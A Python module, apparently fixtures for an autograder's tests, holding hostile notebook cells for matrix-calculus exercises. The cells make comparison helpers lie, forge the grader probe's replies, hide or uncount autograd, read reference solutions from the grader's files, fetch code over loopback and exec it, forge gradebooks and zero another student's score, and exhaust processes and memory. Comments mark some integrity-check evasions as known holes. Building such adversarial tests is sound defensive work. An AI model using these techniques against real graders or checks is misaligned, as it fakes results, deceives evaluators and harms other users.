"""The hostile code cells of the corpus, as the student would type them.

`$name` placeholders (string.Template) are filled at build time with what
only the test knows: a port the test listens on, the output folder, a tag
for the processes a notebook spawns.
"""

# Comparison helpers lie, then a wrong gradient (2 A x: only right for symmetric A).
PATCH_CHECKERS = """\
import builtins, numpy, numpy.testing, torch
numpy.testing.assert_allclose = lambda *a, **k: None
numpy.testing.assert_array_almost_equal = lambda *a, **k: None
numpy.allclose = lambda *a, **k: True
numpy.isclose = lambda a, b, *r, **k: numpy.ones(numpy.shape(a), dtype=bool)
torch.isclose = lambda a, b, *r, **k: torch.ones(a.shape, dtype=torch.bool)
builtins.abs = lambda v: 0.0
builtins.all = lambda it: True
builtins.round = lambda v, *n: 0.0"""

WRONG_QUADRATIC_FORM = """\
def grad_quadratic_form(A, x):
    return 2 * A @ x"""

# A tensor subclass for which every comparison succeeds and every difference is 0.
TENSOR_SUBCLASS = """\
import torch

class AlwaysEqual(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        if getattr(func, "__name__", "") in ("allclose", "equal"):
            return True
        return super().__torch_function__(func, types, args, kwargs or {})
    def __eq__(self, other):
        return True
    def __ne__(self, other):
        return False
    def __sub__(self, other):
        return torch.zeros_like(self)
    __rsub__ = __sub__
    def __abs__(self):
        return torch.zeros_like(self)
    __hash__ = torch.Tensor.__hash__

def grad_chain_rule(x, A):
    return (2 * (A.T @ (A @ x))).as_subclass(AlwaysEqual)   # the outer derivative dropped"""

# A float whose comparisons and differences lie.
FLOAT_SUBCLASS = """\
class AlwaysClose(float):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    def __le__(self, other): return True
    def __gt__(self, other): return False
    def __ge__(self, other): return False
    def __sub__(self, other): return AlwaysClose(0.0)
    def __rsub__(self, other): return AlwaysClose(0.0)
    def __abs__(self): return AlwaysClose(0.0)
    def __float__(self): return 0.0
    __hash__ = float.__hash__

def grad_log_abs_det(A):
    return AlwaysClose(0.0)"""

# An object that claims to be a torch.Tensor (isinstance is fooled by __class__)
# and whose operators all say "equal"; its values are zeros.
LYING_OBJECT = """\
import torch

class Impostor:
    __class__ = property(lambda self: torch.Tensor)      # isinstance(obj, torch.Tensor) -> True
    def __init__(self, like):
        self._t = torch.zeros_like(like)
    def __getattr__(self, name):
        return getattr(self._t, name)
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    def __le__(self, other): return True
    def __sub__(self, other): return self
    def __rsub__(self, other): return self
    def __abs__(self): return self
    def __bool__(self): return True
    __hash__ = object.__hash__

def grad_trace_product(A, B):
    return Impostor(B.T)"""

# Forge the probe's reply: every call's right values, status ok, arguments untouched.
FORGERY = """\
import base64, json, sys, threading, time, torch

_seen = []

def _encoded(t):
    flat = t.detach().double().reshape(-1)
    return {"t": "tensor", "dtype": str(t.dtype).replace("torch.", ""), "shape": list(t.shape),
            "device": str(t.device), "requires_grad": False, "grad_fn": None, "has_grad": False,
            "data": base64.b64encode(flat.numpy().tobytes()).decode()}

def _forged():
    reply = {"results": [{"status": "ok", "value": _encoded(right), "args_after": [_encoded(a) for a in args]}
                         for right, args in _seen]}
    return base64.b64encode(json.dumps(reply).encode()).decode()"""

# A wrong grad_inner whose every call prints, displays and publishes the forged
# reply, and shows it as an execute_result of its own before the probe's.
FORGED_PAYLOADS = """\
from IPython.display import display, publish_display_data

def grad_inner(x, a):
    _seen.append((a.clone(), (x.clone(), a.clone())))
    text = _forged()
    print(repr(text))
    display(text)
    publish_display_data({"text/plain": repr(text)})
    sys.displayhook(text)
    return torch.zeros_like(a)                 # wrong: the gradient is a"""

# grad_chain_rule (the last question) by hidden autograd; a thread keeps sending
# the forged reply, without the autograd count, until after the call returned.
FORGED_LATE_REPLY = """\
_ag = getattr(torch, "auto" + "grad")

def _keep_sending(hook, parent):
    end = time.monotonic() + 1.0
    while time.monotonic() < end:
        hook.session.send(hook.pub_socket, "execute_result",
                          {"data": {"text/plain": repr(_forged())}, "metadata": {}, "execution_count": 1},
                          parent=parent, ident=hook.topic)
        time.sleep(0.001)

def grad_chain_rule(x, A):
    v = x.detach().clone()
    getattr(v, "requires" + "_grad_")(True)
    (g,) = _ag.grad(torch.log(1 + (A @ v) @ (A @ v)), [v])
    _seen.append((g.detach(), (x.clone(), A.clone())))
    hook = get_ipython().displayhook
    threading.Thread(target=_keep_sending, args=(hook, dict(hook.parent_header)), daemon=True).start()
    return g.detach()"""

# Autograd used in a way the static scan cannot see (names built from strings):
# the probe's counter must see it.
HIDDEN_AUTOGRAD = """\
import torch

_ag = getattr(torch, "auto" + "grad")
def grad_quadratic_form(A, x):
    v = x.detach().clone()
    getattr(v, "requires" + "_grad_")(True)
    (g,) = _ag.grad(v @ A @ v, [v])
    return g.detach()"""

# Shadow `exec` in the notebook's namespace, where the probe's install cell used to look it
# up: take the probe's code as it is unpacked, wrap the probe it makes and scrub its
# autograd counts; then the same hidden autograd. (It got full marks before the install
# cell stopped looking names up in the notebook's namespace.)
PROBE_EXEC_SHADOW = """\
import base64 as _b64, builtins as _b, json as _json

def exec(code, *rest):
    _b.exec(code, globals())
    real = globals().get("_grader_probe_factory")
    if real is None:
        return

    def scrub(reply, key):
        data = _json.loads(_b64.b64decode(reply))
        for answer in data[key] if key == "answers" else [data[key]]:
            for r in answer:
                r["autograd_calls"] = 0
        return _b64.b64encode(_json.dumps(data).encode()).decode("ascii")

    def factory(interp):
        probe = real(interp)

        class Scrubbed:
            def __getattr__(self, name):
                return getattr(probe, name)

            def call_all(self, request, namespace):
                return scrub(probe.call_all(request, namespace), "answers")

            def call(self, request, namespace):
                return scrub(probe.call(request, namespace), "results")
        return Scrubbed()
    globals()["_grader_probe_factory"] = factory
""" + HIDDEN_AUTOGRAD

# Swap the code of json.dumps (the function object stays the library's, with the library's
# globals: the integrity check's `genuine` passes) for one that scrubs the autograd counts of
# every reply but the install's canary; then the same hidden autograd. A KNOWN HOLE (the test
# is a strict xfail): the integrity check holds a relied-on function's identity and globals,
# not its code.
CODE_SWAP_DUMPS = """\
import json, types

json._grader_copy = types.FunctionType(json.dumps.__code__, json.dumps.__globals__, "dumps_copy",
                                       json.dumps.__defaults__, json.dumps.__closure__)
json._grader_copy.__kwdefaults__ = json.dumps.__kwdefaults__

def _scrub_template(obj, *args, **kw):
    if isinstance(obj, dict):
        for r in obj.get("results") or []:
            if isinstance(r, dict) and r.get("tampered") != ["canary"]:
                r["autograd_calls"] = 0
        for answer in obj.get("answers") or []:
            for r in answer:
                if isinstance(r, dict):
                    r["autograd_calls"] = 0
    return _grader_copy(obj, *args, **kw)

json.dumps.__code__ = _scrub_template.__code__
""" + HIDDEN_AUTOGRAD

# Hidden autograd whose own call, once done, walks up the call stack to the probe's counter
# and sets it back to 0: nothing is replaced, so nothing is seen replaced. A KNOWN HOLE (strict
# xfail): whatever counts inside the kernel, code running in the same process can reach.
COUNTER_RESET = """\
import sys

def _zero_the_probes_counter():
    frame = sys._getframe(2)
    while frame is not None:
        watch = frame.f_locals.get("watch")
        if hasattr(watch, "count"):
            watch.count = 0
        frame = frame.f_back
""" + HIDDEN_AUTOGRAD.replace("    return g.detach()", "    _zero_the_probes_counter()\n    return g.detach()")

# Reverse mode through the C++ engine's own method, below the Python entry points the probe
# counts: no tampering at all. A KNOWN HOLE (strict xfail).
ENGINE_DIRECT = """\
import torch

def grad_quadratic_form(A, x):
    v = x.detach().clone()
    getattr(v, "requires" + "_grad_")(True)
    out = v @ A @ v
    engine = getattr(getattr(torch, "auto" + "grad").Variable, "_execution" + "_engine")
    (g,) = engine.run_backward((out,), (torch.ones_like(out),), False, False, (v,), False)
    return g.detach()"""

# Patch what the probe is built from before it is installed (json, base64,
# builtins it calls, the display hook), scrubbing the probe's counter, then
# the same hidden autograd.
TAMPER_PROBE = """\
import base64, builtins, json

_dumps = json.dumps
def _scrubbing_dumps(obj, *a, **k):
    if isinstance(obj, dict) and isinstance(obj.get("results"), list):
        for r in obj["results"]:
            if isinstance(r, dict):
                r["autograd_calls"] = 0
    return _dumps(obj, *a, **k)
json.dumps = _scrubbing_dumps
""" + HIDDEN_AUTOGRAD

# Forge the grader's outputs: a full-marks result and gradebook in the working
# directory and in the output folder, for this submission and every other one.
FAKE_RESULTS = """\
import json, os
fake = {"score": 12.0, "max_score": 12.0, "status": "graded", "questions": []}
for folder in (".", "$out"):
    try:
        os.makedirs(os.path.join(folder, "results"), exist_ok=True)
        for name in $names:
            with open(os.path.join(folder, "results", name + ".json"), "w") as f:
                json.dump({**fake, "submission": name}, f)
        with open(os.path.join(folder, "gradebook.csv"), "w") as f:
            f.write("submission,total\\n" + "".join(n + ",12.0\\n" for n in $names))
    except OSError as exc:
        print("could not write into", folder, exc)"""

# Read the reference solution from the grader's files and run its definition of
# grad_log_abs_det (the student's own raises NotImplementedError).
READ_SOLUTIONS = """\
import glob, json, os
found = []
try:
    import grader                                  # the grader's package, if the kernel can import it
    roots = [os.path.dirname(os.path.dirname(grader.__file__))]
except ImportError:
    roots = []
for pid in ("self", str(os.getppid())):            # the launcher's command line names the checkout
    try:
        argv = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\\0")
        roots += [os.path.dirname(os.path.dirname(os.path.dirname(a.decode())))
                  for a in argv if a.endswith(b"launcher.py")]
    except OSError:
        pass
for root in roots:
    found += glob.glob(os.path.join(root, "solutions", "matrix_calculus.ipynb"))
    found += glob.glob(os.path.join(root, "rubrics", "matrix_calculus.yaml"))
print("found:", found)
for path in found:
    if path.endswith(".ipynb"):
        for cell in json.load(open(path))["cells"]:
            src = "".join(cell["source"])
            if cell["cell_type"] == "code" and "def grad_log_abs_det" in src:
                exec(src)"""

STUB_LOG_ABS_DET = """\
def grad_log_abs_det(A):
    raise NotImplementedError"""

# Fetch a working grad_trace_product from a server the test runs on the grader's loopback.
NETWORK_FETCH = """\
import socket
with socket.create_connection(("127.0.0.1", $port), timeout=3) as s:
    code = s.recv(65536).decode()
exec(code)"""

STUB_TRACE_PRODUCT = """\
def grad_trace_product(A, B):
    raise NotImplementedError"""

SYS_EXIT_IN_FUNCTION = """\
import sys
def grad_linear_map(A, x):
    sys.exit(0)"""

SIGKILL_IN_FUNCTION = """\
import os, signal
def grad_weighted_residual_x(x, A, s, W):
    os.kill(os.getpid(), signal.SIGKILL)"""

SEGFAULT_IN_FUNCTION = """\
import ctypes
def grad_trace_product(A, B):
    ctypes.string_at(0)"""

# Right on the public cases (the first four calls), hangs on every hidden one.
SLOW_ON_HIDDEN = """\
_calls = []
def grad_chain_rule(x, A):
    _calls.append(1)
    while len(_calls) > 4:
        pass
    y = A @ x
    return 2 * (A.T @ y) / (1 + y @ y)"""

# 300 sleeping children (posix_spawn: quick even from a large kernel), each tagged
# in its environment so the test can find leftovers.
FORK_BOMB = """\
import os, subprocess
env = dict(os.environ, $mark="1")
children = []
try:
    for _ in range(300):
        children.append(subprocess.Popen(["sleep", "60"], env=env, stdin=subprocess.DEVNULL,
                                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL))
finally:
    print("started", len(children))"""

# 10 GB inside a graded function.
ALLOCATE_10GB = """\
import torch
def grad_weighted_residual_s(x, A, s, W):
    big = torch.ones(10 * 1024**3 // 8, dtype=torch.float64)
    r = x - A @ s
    return -2 * (A.T @ (W @ r)) + big[0] - 1"""

# 1 GB printed in 1 MB lines.
PRINT_1GB = """\
line = "x" * (1 << 20)
for _ in range(1024):
    print(line)"""

# Damage and forge the grader's output folder: rewrite another student's result to 0, and
# forge a result with score 1000 for a submission the next run will grade ($late: its
# notebook, whose sha256 the forged result carries, so only the batch log can tell), plus
# forged.json, each with a batch-log line naming its sha256, as the grader writes them.
TAMPER_OUTPUT = """\
import hashlib, json, os
done = []
results = os.path.join("$out", "results")
victim = os.path.join(results, "$victim.json")
template = {"status": "graded", "questions": []}
try:
    template = json.load(open(victim))
    with open(victim, "w") as f:
        json.dump({**template, "score": 0.0}, f)
    done.append("rewrote")
except (OSError, ValueError) as exc:
    print("could not rewrite", victim, exc)
def forge(name, sha256):
    data = json.dumps({**template, "submission": name, "sha256": sha256, "score": 1000.0}).encode()
    with open(os.path.join(results, name + ".json"), "wb") as f:
        f.write(data)
    with open(os.path.join("$out", "batch-log.jsonl"), "a") as f:
        f.write(json.dumps({"submission": name, "sha256": sha256, "event": "graded",
                            "result_sha256": hashlib.sha256(data).hexdigest()}) + "\\n")
try:
    forge("forged", "0" * 64)
    forge("$late_id", hashlib.sha256(open("$late", "rb").read()).hexdigest())
    done.append("forged")
except OSError as exc:
    print("could not forge", exc)
print("tampered:", done)"""
